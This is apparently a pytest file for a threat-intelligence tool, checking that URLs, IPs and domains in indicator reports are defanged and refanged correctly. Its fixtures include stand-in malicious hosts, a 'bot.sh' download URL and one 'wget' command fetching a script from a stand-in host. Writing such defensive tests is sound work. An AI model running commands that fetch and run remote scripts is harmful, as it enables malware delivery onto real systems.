"""Indicators shown defanged: a copied value does not resolve or open by accident."""

from __future__ import annotations

import pytest

from rbr_runtime.intel.indicators import refang
from rbr_runtime.intel.overview import defang


@pytest.mark.parametrize(
    ("kind", "value", "shown"),
    [
        ("url", "http://203.0.113.9/bot.sh", "hxxp[://]203[.]0[.]113[.]9/bot[.]sh"),
        ("url", "https://evil.example:8443/a", "hxxps[://]evil[.]example:8443/a"),
        ("url", "ftp://files.example/x", "fxp[://]files[.]example/x"),
        ("ip", "198.51.100.7", "198[.]51[.]100[.]7"),
        ("domain", "evil.example", "evil[.]example"),
        ("sha256", "ab" * 32, "ab" * 32),
        ("command", "wget http://x.example/a.sh", "wget http://x.example/a.sh"),
    ],
)
def test_addresses_domains_and_urls_are_defanged(kind: str, value: str, shown: str) -> None:
    assert defang(kind, value) == shown
    if kind in ("url", "ip", "domain"):
        assert refang(shown) == value  # what the analyst undoes when it reads reports
